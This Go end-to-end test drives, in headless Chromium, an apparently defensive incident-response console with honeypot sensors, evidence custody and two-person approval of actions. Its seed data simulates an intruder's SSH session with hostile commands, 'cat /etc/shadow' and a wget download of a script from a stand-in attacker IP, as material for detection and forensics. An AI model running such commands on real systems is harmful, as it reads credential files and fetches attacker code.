package web

import (
	"archive/tar"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	cdpbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/vallum/vallum/internal/bundle"
	"github.com/vallum/vallum/internal/honeytoken"
	"github.com/vallum/vallum/internal/incident"
	"github.com/vallum/vallum/internal/sensor"
)

// chromiumPath is Debian's Chromium.
const chromiumPath = "/usr/bin/chromium"

// screenshotDir is where the end-to-end test saves its screenshots:
// $VALLUM_SCREENSHOTS, or a temporary directory.
func screenshotDir(t *testing.T) string {
	if d := os.Getenv("VALLUM_SCREENSHOTS"); d != "" {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		return d
	}
	return t.TempDir()
}

// seed fills an incident the way a real morning would: observables,
// evidence with custody, a clock about to fall due, sensor events.
func seed(t *testing.T, e *testEnv) incident.Incident {
	ctx := context.Background()
	paola := actor("paola")
	inc, err := e.srv.Desk.Create(ctx, paola, incident.NewIncident{
		Title: "Ransomware on the PACS", Severity: incident.Critical, Categories: []string{"ransomware"},
		Description: "The radiology archive encrypts files; ransom note on pacs1.",
	})
	if err != nil {
		t.Fatal(err)
	}
	e.srv.Desk.Create(ctx, paola, incident.NewIncident{Title: "Password spraying on the VPN", Severity: incident.High})
	e.srv.Desk.Create(ctx, paola, incident.NewIncident{Title: "Phishing wave", Severity: incident.Medium})
	for _, o := range []incident.NewObservable{
		{Type: "ip", Value: "203.0.113.9", Tags: []string{"c2"}},
		{Type: "domain", Value: "pay-now.example", Tags: []string{"ransom-note"}},
	} {
		if _, err := e.srv.Desk.AddObservable(ctx, paola, inc.ID, o); err != nil {
			t.Fatal(err)
		}
	}
	item, err := e.srv.Desk.AcquireEvidence(ctx, paola, inc.ID, incident.EvidenceInput{
		SHA256: strings.Repeat("ab", 32), Size: 4096, MediaType: "application/octet-stream", Source: "pacs1:/var/log", Tool: "dd", Method: "live copy",
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.srv.Desk.AddCustody(ctx, paola, item.ID, incident.Custody{Step: incident.StepStored, Location: "safe 2", Seal: "S-114"}); err != nil {
		t.Fatal(err)
	}
	if _, err := e.srv.Desk.DeclareRegime(ctx, actor("ivo"), inc.ID, "nis2-it", e.clock.now().Add(-20*time.Hour), "essential entity, health sector"); err != nil {
		t.Fatal(err)
	}
	e.srv.Desk.AddNote(ctx, paola, inc.ID, "Isolate pacs1 before the next backup window.")
	tok, err := e.srv.Honeytokens.Registry.Create(ctx, "paola", honeytoken.Request{Type: "credential", Planted: "fileserver:/srv/finance/vpn-passwords.txt"})
	if err != nil {
		t.Fatal(err)
	}
	for i := range 40 {
		src := []string{"203.0.113.9", "198.51.100.23", "192.0.2.77"}[i%3]
		e.event(sensor.Event{ID: fmt.Sprint("ev", i), Time: e.clock.now().Add(-time.Duration(40-i) * 37 * time.Minute), Sensor: "edge-1/ssh", Protocol: "ssh",
			Kind: sensor.KindAuth, Src: sensor.Endpoint{IP: src, Port: 40000 + i}, Session: fmt.Sprint("ssh-", i/4),
			Credentials: &sensor.Credentials{Method: "password", Username: "root", Password: "admin123"}})
	}
	// One session that got in and typed.
	at := e.clock.now().Add(-10 * time.Minute)
	for i, ev := range []sensor.Event{
		{Kind: sensor.KindAuth, Credentials: &sensor.Credentials{Method: "password", Username: tok.Fields["username"], Password: tok.Fields["password"], Accepted: true}, Honeytoken: tok.ID},
		{Kind: sensor.KindCommand, Command: "uname -a"},
		{Kind: sensor.KindCommand, Command: "cat /etc/shadow"},
		{Kind: sensor.KindCommand, Command: "wget http://203.0.113.9/x.sh -O /tmp/x.sh"},
		{Kind: sensor.KindUpload, Payloads: []sensor.PayloadRef{{SHA256: strings.Repeat("c3", 32), Size: 18234, Name: "/tmp/x.sh"}}},
		{Kind: sensor.KindDisconnect},
	} {
		ev.ID, ev.Time, ev.Sensor, ev.Protocol, ev.Session = fmt.Sprint("live", i), at.Add(time.Duration(i)*4*time.Second), "edge-1/ssh", "ssh", "ssh-live"
		ev.Src = sensor.Endpoint{IP: "203.0.113.9", Port: 51515}
		if ev.Kind == sensor.KindCommand {
			ev.Severity = sensor.SeverityHigh
		}
		e.event(ev)
	}
	e.waitProjected()
	return inc
}

// TestBrowser drives the console in headless Chromium: sign in, open an
// incident, propose a denied action and see why, propose an allowed one,
// approve it as a second user, execute it, verify a proof in the browser.
// It saves screenshots of the main pages.
func TestBrowser(t *testing.T) {
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Skipf("no Chromium at %s: the browser test needs Debian's chromium package", chromiumPath)
	}
	if testing.Short() {
		t.Skip("the browser test is skipped in -short mode")
	}
	e := newEnv(t)
	inc := seed(t, e)
	ts := httptest.NewServer(e.h)
	defer ts.Close()
	shots := screenshotDir(t)

	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(chromiumPath),
		chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("lang", "en-GB"),
		chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1366, 900),
	}
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelAlloc()
	bctx, cancelBrowser := chromedp.NewContext(actx)
	defer cancelBrowser()
	ctx, cancel := context.WithTimeout(bctx, 90*time.Second)
	defer cancel()

	do := func(step string, actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, actions...); err != nil {
			t.Fatalf("%s: %v", step, err)
		}
	}
	text := func(sel string) string {
		t.Helper()
		s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
		if err != nil {
			t.Fatalf("text of %s: %v", sel, err)
		}
		return s
	}
	css := func(s string) chromedp.CSS { return chromedp.CSS(s) }
	shot := func(name string) chromedp.Action[chromedp.Void] {
		return chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
			b, err := chromedp.FullScreenshot(100)(ctx, tg)
			if err != nil {
				return err
			}
			return os.WriteFile(filepath.Join(shots, name+".png"), b, 0o644)
		})
	}
	signIn := func(user string) {
		t.Helper()
		do("sign in as "+user,
			chromedp.Navigate(ts.URL+"/signin?lang=en"),
			chromedp.WaitVisible(css("#user")),
			chromedp.SendKeys(css("#user"), user),
			chromedp.SendKeys(css("#token"), e.tokens[user]),
			chromedp.Submit(css("#token")),
			chromedp.WaitVisible(css("#feed")),
		)
	}
	signOut := func() {
		t.Helper()
		do("sign out", chromedp.Click(css(`form[action="/signout"] button`)), chromedp.WaitVisible(css("#user")))
	}

	// Sign in; the sign-in page first.
	do("sign-in page", chromedp.Navigate(ts.URL+"/signin?lang=en"), chromedp.WaitVisible(css("#user")), shot("signin"))
	signIn("paola")
	do("now page", shot("now"))
	// The live feed: an event logged now appears without reloading.
	e.event(sensor.Event{ID: "live-feed", Time: e.clock.now(), Sensor: "edge-1/ssh", Protocol: "ssh", Kind: sensor.KindCommand,
		Session: "ssh-feed", Src: sensor.Endpoint{IP: "198.51.100.99", Port: 1}, Command: "echo live-feed-check"})
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](`document.getElementById("feed").textContent.includes("live-feed-check")`,
		chromedp.WithPollingTimeout(15*time.Second))); err != nil {
		t.Fatalf("the live feed did not show a new event: %v", err)
	}
	if s := text("main"); !strings.Contains(s, "Ransomware on the PACS") || !strings.Contains(s, "pre-notification") {
		t.Fatalf("the Now page lacks the incident or its due clock: %s", s)
	}

	// Open the incident.
	do("open the incident",
		chromedp.Click(css(`a[href="/incidents/`+inc.ID+`"]`)),
		chromedp.WaitVisible(css("#tl-h")),
		shot("incident"),
	)
	s := text("main")
	if !strings.Contains(s, "203.0.113.9") || !strings.Contains(s, "safe 2") {
		t.Fatalf("the incident page lacks observables or custody: %s", s)
	}

	// Propose a denied action and see the reason, as you type.
	do("preview a denied action",
		chromedp.Click(css(`a[href="/incidents/`+inc.ID+`/propose"]`)),
		chromedp.WaitVisible(css("#kind")),
		chromedp.SetValue(css("#kind"), "remote_access"),
		chromedp.SendKeys(css("#target"), "203.0.113.9"),
		chromedp.WaitVisible(css("#decision .v-deny")),
		shot("propose-deny"),
	)
	if s := text("#decision"); !strings.Contains(s, "cp-615-ter") || !strings.Contains(s, "Lawful alternatives") || !strings.Contains(s, "Preview: not logged") {
		t.Fatalf("the deny preview lacks its legal basis or alternatives: %s", s)
	}
	do("propose the denied action",
		chromedp.Click(css("#submit-proposal")),
		chromedp.WaitVisible(css("#action-state")),
	)
	if s := text("main"); !strings.Contains(s, "No approval can unlock it") {
		t.Fatalf("the denied action's page does not say why: %s", s)
	}

	// Propose an allowed one (it needs the business owner's approval).
	do("propose host isolation",
		chromedp.Navigate(ts.URL+"/incidents/"+inc.ID+"/propose"),
		chromedp.WaitVisible(css("#kind")),
		chromedp.SetValue(css("#kind"), "host_isolation"),
		chromedp.SendKeys(css("#target"), "pacs1"),
		chromedp.WaitVisible(css("#decision .v-conditional")),
		shot("propose-conditional"),
		chromedp.Click(css("#submit-proposal")),
		chromedp.WaitVisible(css("#action-state")),
		shot("action-conditional"),
	)
	actionURL, err := chromedp.Run(ctx, chromedp.Location())
	if err != nil {
		t.Fatal(err)
	}
	signOut()

	// Approve it as a second user.
	signIn("bea")
	do("approve",
		chromedp.Navigate(actionURL),
		chromedp.WaitVisible(css("#approve")),
		chromedp.Click(css("#approve")),
		chromedp.WaitVisible(css("#action-state .st-approved")),
	)
	signOut()

	// Execute it and see it executed.
	signIn("paola")
	do("execute",
		chromedp.Navigate(actionURL),
		chromedp.WaitVisible(css("#execute")),
		chromedp.SendKeys(css("#summary"), "pacs1 isolated on the EDR, management VLAN only"),
		chromedp.SendKeys(css("#reference"), "CHG-2026-0412"),
		chromedp.Click(css("#execute")),
		chromedp.WaitVisible(css("#action-state .st-executed")),
		shot("action-executed"),
	)

	// Export the court bundle, as legal counsel.
	signOut()
	signIn("lea")
	downloads := t.TempDir()
	if _, err := chromedp.CallBrowser(ctx, cdpbrowser.SetDownloadBehavior, cdpbrowser.SetDownloadBehaviorParams{
		Behavior: cdpbrowser.SetDownloadBehaviorBehaviorAllow, DownloadPath: downloads,
	}); err != nil {
		t.Fatal(err)
	}
	do("export the bundle",
		chromedp.Navigate(ts.URL+"/incidents/"+inc.ID),
		chromedp.WaitVisible(css("#export")),
		chromedp.Click(css("#export")),
	)
	bundleFile := filepath.Join(downloads, "vallum-bundle-"+inc.ID+".tar.gz")
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		if fi, err := os.Stat(bundleFile); err == nil && fi.Size() > 0 {
			break
		}
		if time.Now().After(deadline) {
			ls, _ := os.ReadDir(downloads)
			t.Fatalf("no bundle downloaded to %s: %v", downloads, ls)
		}
	}
	checkBundle(t, bundleFile)

	// Verify an entry's proof in the browser against the published
	// checkpoint.
	do("verify a proof in the browser",
		chromedp.Navigate(ts.URL+"/evidence-log/3"),
		chromedp.WaitVisible(css("#verify-button")),
		chromedp.Click(css("#verify-button")),
		chromedp.WaitVisible(css("#verify[data-result] li")),
		chromedp.Sleep(200*time.Millisecond),
		shot("entry-proof"),
	)
	s = text("#verify-steps")
	t.Log(s)
	if !strings.Contains(s, "Ed25519 signature") || strings.Contains(s, "✗") {
		t.Fatalf("in-browser verification: %s", s)
	}
	// A header that is not the logged one must fail the check.
	do("verify a forged header",
		chromedp.SetAttributeValue(css("#verify"), "data-header", "eyJ2IjoxLCJraW5kIjoiZm9yZ2VkIn0="),
		chromedp.RemoveAttribute(css("#verify"), "data-result"),
		chromedp.Click(css("#verify-button")),
		chromedp.WaitVisible(css("#verify[data-result] li.bad")),
	)
	if s := text("#verify-steps"); !strings.Contains(s, "not in the published tree") {
		t.Fatalf("a forged header passed the in-browser check: %s", s)
	}
	do("the incident after", chromedp.Navigate(ts.URL+"/incidents/"+inc.ID), chromedp.WaitVisible(css("#tl-h")), shot("incident-after"))
	do("notification draft", chromedp.Navigate(ts.URL+"/incidents/"+inc.ID+"/drafts/nis2-prenotification"), chromedp.WaitVisible(css("#text-h")), shot("draft"))
	do("log page", chromedp.Navigate(ts.URL+"/evidence-log"), chromedp.WaitVisible(css("#ent-h")), shot("log"))
	do("sensors page", chromedp.Navigate(ts.URL+"/sensors"), chromedp.WaitVisible(css("#feed")), shot("sensors"))
	do("session replay",
		chromedp.Click(css(`a[href="/sensors/sessions/ssh-live"]`)),
		chromedp.WaitVisible(css("#replay-play")),
		chromedp.Click(css("#replay-play")),
		chromedp.Sleep(1500*time.Millisecond),
		shot("session"),
	)
	if s := text("#transcript"); !strings.Contains(s, "cat /etc/shadow") {
		t.Fatalf("the replay lacks the commands: %s", s)
	}
	do("Now in Italian", chromedp.Navigate(ts.URL+"/?lang=it"), chromedp.WaitVisible(css("#feed")), shot("now-it"))
	if s := text("h1"); s != "Adesso" {
		t.Fatalf("the Italian Now page is titled %q", s)
	}
	t.Logf("screenshots in %s", shots)
}

// checkBundle checks a downloaded court bundle is a gzipped tar with a
// manifest.
func checkBundle(t *testing.T, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatalf("bundle: %v", err)
	}
	tr := tar.NewReader(zr)
	var names []string
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("bundle: %v", err)
		}
		names = append(names, h.Name)
	}
	if !slices.ContainsFunc(names, func(n string) bool { return strings.HasSuffix(n, bundle.ManifestFile) }) {
		t.Fatalf("the bundle has no %s: %v", bundle.ManifestFile, names)
	}
}
